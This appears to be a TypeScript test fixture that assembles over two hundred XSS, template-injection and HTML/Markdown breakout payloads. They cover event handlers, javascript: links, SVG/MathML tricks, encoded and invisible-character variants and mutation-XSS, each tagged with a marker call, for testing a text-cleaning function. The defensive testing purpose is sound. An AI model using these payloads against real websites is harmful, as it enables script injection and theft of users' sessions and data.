import { cleanText } from '../src/text/clean.ts'

/**
 * Words that would run, or make something of the page, where they are not written as words. `§` stands for the number of each: what runs
 * calls `__x` with it, what is made carries it in `zz`.
 */
const WRITTEN: Readonly<Record<string, readonly string[]>> = {
  'scripts': [
    '<script zz=§>__x(§)</script>', '<ScRiPt zz=§>__x(§)</sCrIpT>', '<script zz=§ src=/zz.js></script>', '<script/zz=§>__x(§)</script>',
    '<script\tzz=§\n>__x(§)</script >',
    '<scr<script zz=§>ipt>__x(§)</script>', '<script zz=§ type=module>__x(§)</script>',
    '<noscript><p title="</noscript><img zz=§ src=x onerror=__x(§)>">',
    '<script zz=§>`${__x(§)}`</script>',
  ],
  'handlers': [
    '<img zz=§ src=x onerror=__x(§)>', '<IMG ZZ=§ SRC=x ONERROR="__x(§)">', '<img/zz=§/src=x/onerror=__x(§)>',
    '<img zz=§ src=x onerror=&#95;_x(§)>', "<img zz=§ src='x' onerror='__x(§)'",
    '<body zz=§ onload=__x(§)>', '<input zz=§ autofocus onfocus=__x(§)>', '<select zz=§ autofocus onfocus=__x(§)>',
    '<details zz=§ open ontoggle=__x(§)>', '<video zz=§ src=x onerror=__x(§)>',
    '<audio zz=§ src=x onerror=__x(§)>', '<video zz=§><source onerror=__x(§) src=x></video>',
    '<div zz=§ onpointerenter=__x(§)>over</div>', '<style zz=§ onload=__x(§)></style>',
    '<link zz=§ rel=stylesheet href=/site.css onload=__x(§)>', '<object zz=§ data=x onerror=__x(§)></object>',
    '<iframe zz=§ onload=__x(§)></iframe>', '<marquee zz=§ onstart=__x(§)>m</marquee>',
    '<p zz=§ style="animation:a 1s" onanimationstart=__x(§)>', '<button zz=§ popovertarget=a onbeforetoggle=__x(§)>b</button>',
    '<img zz=§ src=x onerror\n=\n__x(§)>', '<x zz=§ contenteditable onbeforeinput=__x(§)>x</x>',
  ],
  'drawings and formulas': [
    '<svg zz=§ onload=__x(§)>', '<svg zz=§/onload=__x(§)>', '<svg zz=§><script>__x(§)</script></svg>',
    '<svg zz=§><script href=data:,__x(§) /></svg>', '<svg zz=§><animate onbegin=__x(§) attributeName=x dur=1s>',
    '<svg zz=§><a xlink:href=javascript:__x(§)><text y=9>x</text></a></svg>', '<svg zz=§><set attributeName=href to=javascript:__x(§)>',
    '<svg zz=§><use href="data:image/svg+xml,<svg/>#x"/></svg>',
    '<svg zz=§><foreignObject><img src=x onerror=__x(§)></foreignObject></svg>', '<svg zz=§><image href=x onerror=__x(§)></svg>',
    '<svg zz=§><style><img src=x onerror=__x(§)></style></svg>',
    '<math zz=§ href=javascript:__x(§)>x</math>',
    '<math zz=§><maction actiontype=statusline xlink:href=javascript:__x(§)>x</maction></math>',
    '<math zz=§><annotation-xml encoding=text/html><img src=x onerror=__x(§)>',
  ],
  'links in HTML': [
    '<a zz=§ href=javascript:__x(§)>x</a>', '<a zz=§ href=" javascript:__x(§)">x</a>', '<a zz=§ href="java\tscript:__x(§)">x</a>',
    '<a zz=§ href="java\nscript:__x(§)">x</a>', '<a zz=§ href="&#106;avascript:__x(§)">x</a>',
    '<a zz=§ href="javascript&colon;__x(§)">x</a>', '<a zz=§ href="java&Tab;script:__x(§)">x</a>',
    '<a zz=§ href="java&NewLine;script:__x(§)">x</a>', '<a zz=§ href="&#x6A&#x61vascript:__x(§)">x</a>',
    '<a zz=§ href=JaVaScRiPt:__x(§)>x</a>',
    '<a zz=§ href="data:text/html,<script>__x(§)</script>">x</a>', '<a zz=§ href=data:text/html;base64,PHNjcmlwdD4=>x</a>',
    '<a zz=§ href=vbscript:__x(§)>x</a>', '<a zz=§ href="\u0001javascript:__x(§)">x</a>',
    '<area zz=§ href=javascript:__x(§)>', '<a zz=§ href="javascript://%0a__x(§)">x</a>', '<a zz=§ href=x target=_blank ping=/zz>x</a>',
    '<a zz=§ href="blob:null/x">x</a>', '<a zz=§ href="view-source:x">x</a>', '<a zz=§ href=//zz.invalid>x</a>',
  ],
  'links in Markdown': [
    '[x](javascript:__x(§))', '[x](JaVaScRiPt:__x(§))', '[x](<javascript:__x(§)>)', '[x](java&#115;cript:__x(§))',
    '[x](javascript&colon;__x(§))', '[x](data:text/html,__x(§))', '[x](vbscript:__x(§))', '<javascript:__x(§)>',
    '![x](javascript:__x(§))', '![x](data:image/svg+xml,§)', '[x](/a "\' onmouseover=__x(§) zz=§ ")',
    '[x](/a" onmouseover="__x(§)" zz="§)', '[x](\\javascript:__x(§))', '[x][r§]\n\n[r§]: javascript:__x(§)',
    '[<img zz=§ src=x onerror=__x(§)>](/a)', '![<img zz=§ src=x onerror=__x(§)>](/a.png)', '`<img zz=§ src=x onerror=__x(§)>`',
    '[x](//zz.invalid/§)', '<data:text/html,§>', '[x](/\\\\zz.invalid/§)', '**<b zz=§ onclick=__x(§)>x**',
  ],
  'templates': [
    '<%= __x(§) %>', '<%- 7919*7907 %> §', '<%# § %>', '<%% § %%>', '<%_ __x(§) _%>', '{{7919*7907}} §', '{{- § }}', '{{{§}}}',
    '$t(common:yes) §', '$t(common:yes, {"count": §})', '{{count, number}} §', '{{name}}$t(errors:not_found.title) §',
    '${7919*7907} §', '#{7919*7907} §', '[[§]]', '{%§%}', '@(7919*7907) §', "{{constructor.constructor('__x(§)')()}}", '__proto__[zz]=§',
    '<%= include("/errors/show") %> §', '{{_lng}}{{_ns}} §', '$& $1 $` §',
  ],
  'ways out of attributes': [
    '" onmouseover="__x(§)" zz="§', "' onmouseover='__x(§)' zz='§", '"><img zz=§ src=x onerror=__x(§)>',
    "'><img zz=§ src=x onerror=__x(§)>", '" autofocus onfocus=__x(§) zz=§ x="', '`onmouseover=__x(§) zz=§ `',
    '" style="background:red" zz="§',
    '"/><svg zz=§ onload=__x(§)>', "';__x(§);//", '";__x(§);//', '\\"><b zz=§>', '&quot;><img zz=§ src=x onerror=__x(§)>',
    '" type=image zz=§ src=x onerror=__x(§) "', '" formaction=javascript:__x(§) zz=§ type=submit "',
  ],
  'ways out of elements': [
    '</textarea><img zz=§ src=x onerror=__x(§)>', '</title><img zz=§ src=x onerror=__x(§)>', '</script><img zz=§ src=x onerror=__x(§)>',
    '</style><img zz=§ src=x onerror=__x(§)>', '--><img zz=§ src=x onerror=__x(§)>',
    '--!><img zz=§ src=x onerror=__x(§)>', '<!--><img zz=§ src=x onerror=__x(§)>-->', ']]><img zz=§ src=x onerror=__x(§)>',
    '<![CDATA[><img zz=§ src=x onerror=__x(§)>]]>', '</p></main></body><img zz=§ src=x onerror=__x(§)>',
    '</select></option><img zz=§ src=x onerror=__x(§)>', '</button></form><form zz=§ action=/zz>', '<?x ><img zz=§ src=x onerror=__x(§)>',
    '</td></tr></table><b zz=§>', '</iframe></noscript><img zz=§ src=x onerror=__x(§)>', '<plaintext zz=§>',
    '</svg></math><b zz=§>', '</template><b zz=§>', '</dialog></details><b zz=§>',
  ],
  'ways out of JSON': [
    '{"a":"</script><script zz=§>__x(§)</script>"}', '\\u003cscript zz=§\\u003e__x(§)', '<!--<script zz=§>', '\u2028__x(§)\u2029',
    '\\"};__x(§);//', '"}];__x(§);[{"', "\\');__x(§);//", '\\x3cimg zz=§ onerror=__x(§)\\x3e',
  ],
  'other encodings': [
    '&lt;img zz=§ src=x onerror=__x(§)&gt;', '&#60;img zz=§ src=x onerror=__x(§)&#62;', '&#x3c;script&#x3e;__x(§)&#x3c;/script&#x3e;',
    '%3Cimg zz=§ src=x onerror=__x(§)%3E', '+ADw-script+AD4-__x(§)+ADw-/script+AD4-',
    '＜script zz=§＞__x(§)＜/script＞', '&amp;lt;img zz=§ onerror=__x(§)&amp;gt;', '<\u200bimg zz=§ src=x onerror=__x(§)>',
    '\ufeff<img zz=§ src=x onerror=__x(§)>', 'ʼ><img zz=§ src=x onerror=__x(§)>', '\u00a0"\u00a0onfocus="__x(§)"\u00a0zz="§',
    '‹script zz=§›__x(§)‹/script›', '&NotExists;<b zz=§>', '&#0;<b zz=§>',
  ],
  'what changes the page': [
    '<base zz=§ href=//zz.invalid/>', '<meta zz=§ http-equiv=refresh content="0;url=/zz">',
    '<meta zz=§ http-equiv=Content-Security-Policy content="script-src *">', '<form zz=§ action=//zz.invalid><input name=form_token>',
    '<button zz=§ formaction=//zz.invalid>x</button>', '<img zz=§ srcset="x 1x, data:image/png;base64,AA 2x">',
    '<style zz=§>*{background:url(/zz)}</style>', '<p zz=§ style="position:fixed;inset:0">x</p>',
    '<link zz=§ rel=preload href=/zz as=script>',
    '<img zz=§ name=getElementById>', '<a zz=§ id=__stopped></a><a id=__stopped name=x></a>',
    '<form zz=§ id=document><input name=forms></form>', '<embed zz=§ src=/zz>',
    '<iframe zz=§ srcdoc="<script>parent.__x(§)</script>"></iframe>',
    '<p zz=§ data-paste data-state=approved hidden>', '<input zz=§ name=form_token value=§>', '<dialog zz=§ open>x</dialog>',
    '<p zz=§ id=p-1 lang=xx dir=rtl>', '<textarea zz=§ name=text>', '<portal zz=§ src=/zz>',
    '<template zz=§ shadowrootmode=open><slot></slot>',
  ],
  'what changes when it is read again': [
    '<noscript><style></noscript><img zz=§ src=x onerror=__x(§)>', '<math><mi><mglyph><style><img zz=§ src=x onerror=__x(§)>',
    '<svg></p><style><a id="</style><img zz=§ src=x onerror=__x(§)>">', '<table><a zz=§ href=/a><td>x',
    '<form><math><mtext></form><form zz=§><mglyph><style></math><img zz=§ src=x onerror=__x(§)>',
    '<p><svg zz=§><desc><p><img zz=§ src=x onerror=__x(§)>', '<option><style></option></select><img zz=§ src=x onerror=__x(§)>',
    '<b zz=§ <i onclick=__x(§)>x',
  ],
  'signs nobody sees': [
    '\u0000<img zz=§ src=x onerror=__x(§)>', '<im\u0000g zz=§ src=x onerror=__x(§)>', '\u202e<img zz=§ src=x onerror=__x(§)>\u202c',
    '\u2066"\u2069 onfocus=__x(§) zz=§', '\u0085<b zz=§>', '<a zz=§ href="javas\u0000cript:__x(§)">x</a>',
  ],
}

export interface Payload { id: number; kind: string; text: string }

export const PAYLOADS: readonly Payload[] = Object.entries(WRITTEN).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })))
  .map(({ kind, text }, at) => ({ id: 1000 + at, kind, text: text.replaceAll('§', String(1000 + at)) }))

/** Those that a form takes: the others hold signs that no text may have. */
export const WRITABLE = PAYLOADS.filter(({ text }) => 'text' in cleanText(text))

/** All of them, in as few texts as there can be of at most `most` signs. */
export function packs(most: number): string[] {
  return WRITABLE.reduce<string[]>((all, { text }) => {
    const last = all.at(-1)
    return last !== undefined && last.length + text.length < most ? [...all.slice(0, -1), `${last}\n${text}`] : [...all, text]
  }, [])
}
